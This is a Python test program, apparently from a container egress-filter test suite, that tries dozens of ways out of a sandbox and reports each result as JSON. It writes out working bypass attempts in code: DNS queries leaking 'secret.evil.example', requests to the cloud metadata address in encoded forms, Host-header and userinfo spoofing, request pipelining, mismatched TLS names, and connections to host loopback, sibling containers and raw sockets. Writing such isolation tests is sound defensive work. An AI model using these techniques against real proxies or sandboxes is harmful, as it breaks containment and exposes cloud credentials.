"""Ways out of a container: a program that tries each inside one, and prints what came of it, as JSON.

It is given as arguments: the file of the internet's certificate, and `name=value` for the addresses
of this machine that it is to try. Uses the standard library alone, of whatever Python the image has.
"""

import json
import os
import socket
import ssl
import struct
import sys
import urllib.error
import urllib.request
from collections.abc import Callable

TIMEOUT_S = 2.0
PROXY = ("127.0.0.1", 3128)
ALLOWED, EVIL, METADATA, HOST = "198.18.77.2", "198.18.77.3", "169.254.169.254", "198.18.77.1"
PUBLIC = "192.88.99.2"
given: dict[str, str] = {}


def raw(address: str, port: int, data: bytes = b"GET / HTTP/1.0\r\n\r\n") -> str:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family) as one:
        one.settimeout(TIMEOUT_S)
        one.connect((address, port))
        one.sendall(data)
        answer = b""
        while some := one.recv(65536):
            answer += some
        return answer.decode(errors="replace")


def datagram(address: str, port: int) -> str:
    with socket.socket(type=socket.SOCK_DGRAM) as one:
        one.settimeout(TIMEOUT_S)
        one.sendto(question("secret.evil.example"), (address, port))
        return one.recv(65536).decode(errors="replace")


def question(name: str) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + bytes([0, 0, 1, 0, 1])


def fetch(url: str, proxy: bool, host: str = "") -> str:
    """As ordinary programs do, with the proxy variables or in spite of them."""
    handlers: list[urllib.request.BaseHandler] = [
        urllib.request.HTTPSHandler(context=ssl.create_default_context(cafile=sys.argv[1]))
    ]
    if not proxy:
        handlers.append(urllib.request.ProxyHandler({}))
    request = urllib.request.Request(url, headers={"Host": host} if host else {})
    with urllib.request.build_opener(*handlers).open(request, timeout=TIMEOUT_S) as answer:
        return str(answer.read().decode())


def asked(line: str, host: str = "allowed.example", at: tuple[str, int] = PROXY) -> str:
    return raw(*at, f"{line} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())


def tls(connection: socket.socket, name: str | None) -> str:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with context.wrap_socket(connection, server_hostname=name) as secure:
        secure.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return secure.recv(65536).decode()


def tunnel(target: str, then: Callable[[socket.socket], str]) -> str:
    with socket.create_connection(PROXY, TIMEOUT_S) as one:
        one.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        answer = one.recv(65536).decode()
        return then(one) if answer.startswith("HTTP/1.1 200") else answer


def greeted(target: str, name: str | None) -> str:
    return tunnel(target, lambda one: tls(one, name))


def spoken(target: str, data: bytes) -> str:
    def speak(one: socket.socket) -> str:
        one.sendall(data)
        return one.recv(65536).decode(errors="replace")

    return tunnel(target, speak)


def local_tls(name: str | None) -> str:
    with socket.create_connection(("127.0.0.1", 443), TIMEOUT_S) as one:
        return tls(one, name)


def pipelined() -> str:
    first = "GET http://allowed.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n"
    second = "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    with socket.create_connection(PROXY, TIMEOUT_S) as one:
        one.sendall((first + second).encode())
        answer = b""
        while some := one.recv(65536):
            answer += some
    return "reached evil" if b"evil" in answer else "the second was not served"


def abstract_socket() -> str:
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(TIMEOUT_S)
        one.connect("\0" + given["abstract"])
        return one.recv(100).decode()


def raw_socket(family: int, protocol: int) -> str:
    socket.socket(family, socket.SOCK_RAW, protocol).close()
    return "reached: a raw socket"


# Ways that the job's domains allow: allowed.example, .wild.example, inside.example and the address itself.
ALLOWED_WAYS: dict[str, Callable[[], str]] = {
    "http by the proxy variables": lambda: fetch("http://allowed.example/", proxy=True),
    "https by the proxy variables": lambda: fetch("https://allowed.example/", proxy=True),
    "http without a proxy": lambda: fetch("http://allowed.example/", proxy=False),
    "https without a proxy": lambda: fetch("https://allowed.example/", proxy=False),
    "a subdomain of a leading dot": lambda: fetch("https://sub.wild.example/", proxy=True),
    "a subdomain of a leading dot without a proxy": lambda: fetch("https://sub.wild.example/", proxy=False),
    "an address that is listed": lambda: fetch(f"http://{ALLOWED}/", proxy=True),
    "TLS to an address that is listed": lambda: greeted(f"{ALLOWED}:443", None),
}
# Here something comes back, which must be of the allowed host and not of the other.
REWRITTEN: dict[str, Callable[[], str]] = {
    "an allowed URL with another Host": lambda: fetch(
        "http://allowed.example/", proxy=True, host="evil.example"
    ),
}
ATTACKS: dict[str, Callable[[], str]] = {
    "TCP to an address": lambda: raw(EVIL, 80),
    "TCP to an allowed address past the proxy": lambda: raw(ALLOWED, 80),
    "TCP to another port": lambda: raw(ALLOWED, 22),
    "TCP to a public address": lambda: raw(PUBLIC, 80),
    "UDP to a public address": lambda: datagram(PUBLIC, 443),
    "UDP to an allowed address (HTTP/3)": lambda: datagram(ALLOWED, 443),
    "DNS to a server outside": lambda: datagram(EVIL, 53),
    "DNS to a server outside by TCP": lambda: raw(EVIL, 53),
    "DNS for a name that is not allowed": lambda: socket.gethostbyname("secret.evil.example"),
    "DNS for a name below an allowed one": lambda: socket.gethostbyname("secret.allowed.example"),
    "a raw packet socket": lambda: raw_socket(socket.AF_PACKET, 3),
    "a raw IP socket": lambda: raw_socket(socket.AF_INET, 1),
    "the metadata address": lambda: raw(METADATA, 80),
    "the metadata address by the proxy": lambda: asked(f"GET http://{METADATA}/latest/meta-data"),
    "the metadata address as Host": lambda: asked("GET /", METADATA, ("127.0.0.1", 80)),
    "the metadata address behind an allowed name": lambda: asked("GET http://metadata.wild.example/"),
    "the metadata address as one number": lambda: asked("GET http://2852039166/"),
    "the metadata address as IPv6": lambda: asked(f"GET http://[::ffff:{METADATA}]/"),
    "the host's address": lambda: raw(HOST, int(given["host_port"])),
    "the bridge's address": lambda: raw(given["bridge"], int(given["host_port"])),
    "the host behind an allowed name": lambda: asked("GET http://inside.example/"),
    "the host behind an allowed name by TLS": lambda: greeted("inside.example:443", "inside.example"),
    "the host's loopback": lambda: raw("127.0.0.1", int(given["host_port"])),
    "the host's loopback by the proxy": lambda: asked(f"GET http://127.0.0.1:{given['host_port']}/"),
    "the host's loopback by name": lambda: asked(f"GET http://localhost:{given['host_port']}/"),
    "the node's API": lambda: raw("127.0.0.1", int(given["host_port"]), b"GET /v1/node HTTP/1.0\r\n\r\n"),
    "an abstract socket of the host": abstract_socket,
    "the proxy's own door": lambda: ("reached: " if os.path.exists("/gate") else "") + "nothing",
    "a sibling container": lambda: raw(given["sibling"], 80),
    "a sibling container by the proxy": lambda: asked(f"GET http://{given['sibling']}/"),
    "another host by the proxy": lambda: asked("GET http://evil.example/"),
    "another host's address by the proxy": lambda: asked(f"GET http://{EVIL}/"),
    "another host as user information": lambda: asked("GET http://allowed.example@evil.example/"),
    "a longer name": lambda: asked("GET http://allowed.example.evil.example/"),
    "a name that ends alike": lambda: asked("GET http://notwild.example/"),
    "another host as Host": lambda: asked("GET /", "evil.example", ("127.0.0.1", 80)),
    "another host in the request's line": lambda: asked("GET http://evil.example/", at=("127.0.0.1", 80)),
    "a second request": pipelined,
    "another port by the proxy": lambda: asked("GET http://allowed.example:8080/"),
    "a tunnel to another host": lambda: greeted("evil.example:443", "evil.example"),
    "a tunnel to SSH": lambda: spoken("allowed.example:22", b"SSH-2.0-x\r\n"),
    "a tunnel to plain HTTP": lambda: spoken("allowed.example:80", b"GET / HTTP/1.0\r\n\r\n"),
    "a tunnel without TLS": lambda: spoken("allowed.example:443", b"GET / HTTP/1.0\r\n\r\n"),
    "a tunnel that greets another name": lambda: greeted("allowed.example:443", "evil.example"),
    "a tunnel that greets no name": lambda: greeted("allowed.example:443", None),
    "a tunnel to IPv6": lambda: greeted(f"[::ffff:{EVIL}]:443", None),
    "TLS that greets another name": lambda: local_tls("evil.example"),
    "TLS that greets no name": lambda: local_tls(None),
    "TLS that greets the metadata address": lambda: local_tls("metadata.wild.example"),
    "IPv6": lambda: raw("2001:db8::1", 80),
    "IPv6 that carries IPv4": lambda: raw(f"::ffff:{EVIL}", 80),
    "IPv6 loopback": lambda: raw("::1", int(given["host_port"])),
}

# Ways that succeed where nothing keeps them from it: with Network Type Host.
DIRECT = (
    "TCP to an address",
    "TCP to another port",
    "TCP to a public address",
    "UDP to a public address",
    "UDP to an allowed address (HTTP/3)",
    "DNS to a server outside",
    "the metadata address",
    "the host's address",
    "the bridge's address",
    "the host's loopback",
    "an abstract socket of the host",
    "a sibling container",
    "IPv6 that carries IPv4",
    "IPv6 loopback",
)


def attempt(way: Callable[[], str]) -> str:
    try:
        return way()
    except (OSError, urllib.error.URLError) as error:
        return f"{type(error).__name__}: {error}"


if __name__ == "__main__":
    given.update(one.split("=", 1) for one in sys.argv[2:])
    ways = {**ALLOWED_WAYS, **REWRITTEN, **ATTACKS}
    json.dump({name: attempt(way) for name, way in ways.items()}, sys.stdout)
